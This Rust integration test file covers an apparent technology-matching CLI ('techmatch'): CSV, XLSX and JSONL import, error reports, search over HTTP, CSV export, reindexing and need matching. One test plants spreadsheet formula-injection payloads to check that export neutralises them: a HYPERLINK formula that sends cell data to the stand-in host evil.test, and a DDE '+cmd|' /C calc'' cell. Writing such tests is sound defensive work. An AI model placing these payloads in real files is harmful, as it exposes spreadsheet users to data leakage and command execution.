//! `techmatch import` as an operator runs it, then the imported listings served over HTTP.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};

use common::{serve, techmatch, try_http};
use serde_json::Value;

fn shared_eval() -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/eval");
    if path.is_dir() {
        Some(path)
    } else {
        let _ = writeln!(std::io::stderr(), "skipped: ../shared/eval is not present beside the project");
        None
    }
}

fn import(directory: &Path, args: &[&str]) -> (bool, String) {
    let output = techmatch(directory).arg("import").args(args).output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    (output.status.success(), stdout + &String::from_utf8_lossy(&output.stderr))
}

fn search(address: &str, query: &str) -> Value {
    let encoded: String = query
        .bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { (byte as char).to_string() } else { format!("%{byte:02X}") })
        .collect();
    let (status, body) = try_http("GET", &format!("{address}/api/v1/search?q={encoded}"), None, None).unwrap();
    assert_eq!(status, 200, "{body}");
    serde_json::from_str(&body).unwrap()
}

#[test]
fn csv_import_reports_bad_rows_and_commits_good_ones() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("results.csv");
    std::fs::write(
        &file,
        "id,title,abstract,keywords,industry_codes,maturity,asking_price_min,asking_price_max,region_code\n\
         r-1,激光熔覆再制造技术,用于矿山机械零件的激光熔覆再制造技术，延长寿命三倍。,激光;再制造,35,pilot,100000,300000,420111\n\
         r-2,坏行一,摘要,,99,,,,\n\
         r-3,Fiber Bragg grating sensors,Fiber Bragg grating strain sensors for bridge health monitoring.,sensor,40,prototype,500,100,\n\
         r-4,光纤光栅传感器,用于桥梁健康监测的光纤光栅应变传感器。,传感器,40,prototype,,,420100\n",
    )
    .unwrap();
    let report = directory.path().join("errors.csv");
    let (ok, output) =
        import(directory.path(), &["--kind", "results", file.to_str().unwrap(), "--report", report.to_str().unwrap()]);
    assert!(ok, "{output}");
    assert!(output.contains("imported 2 new, 0 updated, 2 refused rows (of 4 rows read)"), "{output}");
    assert!(output.contains("row 3, field abstract"), "{output}");
    assert!(output.contains("row 3, field industry_codes[0]"), "{output}");
    assert!(output.contains("row 4, field asking_price_min"), "{output}");
    let written = std::fs::read_to_string(&report).unwrap();
    assert!(written.starts_with("row,field,reason\n"), "{written}");
    assert_eq!(written.lines().count(), 4, "{written}");

    let (ok, output) = import(directory.path(), &["--kind", "results", file.to_str().unwrap(), "--strict"]);
    assert!(!ok, "strict refuses files with bad rows: {output}");
    assert!(output.contains("imported 0 new, 2 updated"), "re-import updates by id: {output}");

    let mut command = techmatch(directory.path());
    command.args(["serve", "--listen", "127.0.0.1:0"]);
    let served = serve(command);
    assert_eq!(search(&served.address, "激光熔覆")["hits"][0]["title"], "激光熔覆再制造技术");
    assert_eq!(search(&served.address, "光纤光栅 传感器")["total"], 1);
    assert_eq!(search(&served.address, "Bragg")["total"], 0, "the refused row is not there");
}

#[test]
fn xlsx_import() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("needs.xlsx");
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let rows: [[&str; 5]; 3] = [
        ["id", "title", "description", "budget_max", "confidential"],
        ["n-1", "冷链物流温度监控", "需要对冷链运输车厢温度进行实时监控和预警。", "800000", "否"],
        ["n-2", "保密的配方优化", "饮料配方的口感优化，需要保密。", "abc", "是"],
    ];
    for (row, cells) in rows.iter().enumerate() {
        for (column, value) in cells.iter().enumerate() {
            sheet.write_string(row as u32, column as u16, *value).unwrap();
        }
    }
    sheet.write_number(2, 3, 200000.0).unwrap();
    workbook.save(&file).unwrap();
    let (ok, output) = import(directory.path(), &["--kind", "needs", file.to_str().unwrap()]);
    assert!(ok, "{output}");
    assert!(output.contains("imported 2 new, 0 updated, 0 refused rows (of 2 rows read)"), "{output}");

    let mut command = techmatch(directory.path());
    command.args(["serve", "--listen", "127.0.0.1:0"]);
    let served = serve(command);
    assert_eq!(search(&served.address, "冷链 温度")["total"], 1);
    assert_eq!(search(&served.address, "配方")["total"], 0, "confidential rows stay confidential");
}

#[test]
fn the_shared_evaluation_sets_import_as_they_are() {
    let Some(eval) = shared_eval() else { return };
    let directory = tempfile::tempdir().unwrap();
    for (kind, file, rows) in [
        ("results", "zh-dev/results.jsonl", 1604),
        ("needs", "zh-dev/needs.jsonl", 65),
        ("needs", "sbir-dev/needs.jsonl", 192),
    ] {
        let path = eval.join(file);
        let (ok, output) = import(directory.path(), &["--kind", kind, path.to_str().unwrap(), "--strict"]);
        assert!(ok, "{file}: {output}");
        assert!(
            output.contains(&format!("imported {rows} new, 0 updated, 0 refused rows (of {rows} rows read)")),
            "{file}: {output}"
        );
    }
    let first: Value = serde_json::from_str(
        std::fs::read_to_string(eval.join("zh-dev/results.jsonl")).unwrap().lines().next().unwrap(),
    )
    .unwrap();
    let mut command = techmatch(directory.path());
    command.args(["serve", "--listen", "127.0.0.1:0"]);
    let served = serve(command);
    let found = search(&served.address, first["title"].as_str().unwrap());
    assert_eq!(found["hits"][0]["title"], first["title"], "{found}");
}

fn export_results(directory: &Path) -> String {
    let mut command = techmatch(directory);
    command.args(["serve", "--listen", "127.0.0.1:0"]);
    let served = serve(command);
    let (status, exported) = try_http("GET", &format!("{}/api/v1/export/results", served.address), None, None).unwrap();
    assert_eq!(status, 200, "{exported}");
    exported
}

#[test]
fn exported_csv_imports_back() {
    let directory = tempfile::tempdir().unwrap();
    // JSON Lines, so that the hostile cells reach the database exactly as written.
    let source = directory.path().join("source.jsonl");
    let rows = [
        serde_json::json!({"id": "a", "title": "纳米银导电墨水", "abstract": "用于柔性电路印刷的纳米银导电墨水。",
            "keywords": ["纳米银", "柔性电子"], "transfer_modes": ["license", "assignment"]}),
        serde_json::json!({"id": "b", "title": "Biodegradable mulch film",
            "abstract": "A biodegradable agricultural mulch film made from PBAT and starch.", "keywords": ["mulch"],
            "transfer_modes": ["joint_development"]}),
        serde_json::json!({"id": "c", "title": "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
            "abstract": "+cmd|' /C calc'!A0 starts this abstract, which a spreadsheet would run.",
            "keywords": ["-2+3", "@SUM(A1)", "'quoted"], "transfer_modes": ["license"]}),
    ];
    let lines: Vec<String> = rows.iter().map(Value::to_string).collect();
    std::fs::write(&source, lines.join("\n")).unwrap();
    let (ok, output) = import(directory.path(), &["--kind", "results", source.to_str().unwrap()]);
    assert!(ok, "{output}");
    let exported = export_results(directory.path());

    // No cell a spreadsheet opens may start a formula.
    let mut reader = csv::ReaderBuilder::new().from_reader(exported.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
    assert!(cells > 0);
    assert!(exported.contains("'=HYPERLINK"), "{exported}");
    assert!(exported.contains("'+cmd"), "{exported}");

    // Imported elsewhere, the file gives back the same listings, text for text.
    let copy = tempfile::tempdir().unwrap();
    let file = copy.path().join("exported.csv");
    std::fs::write(&file, &exported).unwrap();
    let (ok, output) = import(copy.path(), &["--kind", "results", file.to_str().unwrap(), "--strict"]);
    assert!(ok, "{output}");
    assert!(output.contains("imported 3 new, 0 updated, 0 refused rows (of 3 rows read)"), "{output}");
    // Newest first: the copy's rows come in the reverse order of the file's.
    let sorted_lines = |text: &str| {
        let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
        lines.sort();
        lines
    };
    assert_eq!(sorted_lines(&export_results(copy.path())), sorted_lines(&exported));
}

#[test]
fn reindex_rebuilds_a_lost_index_from_the_database() {
    let directory = tempfile::tempdir().unwrap();
    let source = directory.path().join("needs.csv");
    std::fs::write(
        &source,
        "id,title,description\nx,电镀废水重金属回收,电镀园区废水中镍和铬的回收再利用技术需求。\ny,Drone crop spraying,Variable-rate crop spraying from drones guided by disease maps.\n",
    )
    .unwrap();
    let (ok, output) = import(directory.path(), &["--kind", "needs", source.to_str().unwrap()]);
    assert!(ok, "{output}");
    // Lose the index entirely, then rebuild it offline.
    let _ = std::fs::remove_dir_all(directory.path().join("data/index"));
    let output = techmatch(directory.path()).arg("reindex").output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("indexed 2 listings"),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    let mut command = techmatch(directory.path());
    command.args(["serve", "--listen", "127.0.0.1:0"]);
    let served = serve(command);
    assert_eq!(search(&served.address, "重金属 回收")["total"], 1);
    assert_eq!(search(&served.address, "drones spraying")["total"], 1);
}

#[test]
fn match_all_stores_matches_for_every_open_need() {
    let directory = tempfile::tempdir().unwrap();
    let results = directory.path().join("results.csv");
    std::fs::write(
        &results,
        "id,title,abstract\nr1,温室环境自动感应控制开闭窗系统,根据温湿度传感器自动控制温室天窗开闭，减少人工。\nr2,高镍三元锂电池正极材料,表面包覆提高高镍正极材料的循环寿命。\n",
    )
    .unwrap();
    let needs = directory.path().join("needs.csv");
    std::fs::write(
        &needs,
        "id,title,description,status\nn1,大棚开窗全靠人,温室大棚希望根据温度自动开关天窗。,open\nn2,电池寿命短,锂电池正极材料循环寿命不够。,open\nn3,已经解决的需求,这个需求已经解决，不再匹配。,solved\n",
    )
    .unwrap();
    for (kind, file) in [("results", &results), ("needs", &needs)] {
        let (ok, output) = import(directory.path(), &["--kind", kind, file.to_str().unwrap()]);
        assert!(ok, "{output}");
    }
    let output = techmatch(directory.path()).arg("reindex").output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    // Beside a running server, which holds the index writer.
    let mut command = techmatch(directory.path());
    command.args(["serve", "--listen", "127.0.0.1:0"]);
    let served = serve(command);
    let output = techmatch(directory.path()).args(["match", "--all", "--limit", "5"]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("matched 2 open needs"), "{stdout}");
    let pairs: usize = stdout.split("stored ").nth(1).unwrap().split(' ').next().unwrap().parse().unwrap();
    assert!((2..=4).contains(&pairs), "each open need found its result: {stdout}");
    drop(served);
    let refused = techmatch(directory.path()).args(["match"]).output().unwrap();
    assert!(!refused.status.success());
}

#[test]
fn registered_contracts_that_join_no_deal_are_reported_and_strict_records_none() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("registry.csv");
    std::fs::write(
        &file,
        "合同登记号,合同类别,成交金额,签订日期,登记日期,卖方统一社会信用代码,买方统一社会信用代码\n\
         2026420100000001,技术转让,800000,2026-03-05,2026-03-20,91350100M000100Y43,91440300708461136T\n\
         2026420100000002,技术转让,-1,2026/3/5,2026-03-20,91350100M000100Y40,91440300708461136T\n",
    )
    .unwrap();
    let (ok, output) = import(directory.path(), &["--kind", "contracts", file.to_str().unwrap(), "--strict"]);
    assert!(!ok, "{output}");
    assert!(output.contains("row 2, field no_deal"), "{output}");
    assert!(
        output.contains("row 3, field amount_yuan") && output.contains("row 3, field seller_credit_code"),
        "{output}"
    );
    assert!(output.contains("recorded 0 registrations: 2 of 2 rows cannot be joined (--strict)"), "{output}");
    let (ok, output) = import(directory.path(), &["--kind", "contracts", file.to_str().unwrap()]);
    assert!(ok, "{output}");
    assert!(
        output.contains("recorded 0 registrations, 0 already recorded, 2 rows not joined (of 2 rows read)"),
        "{output}"
    );
}
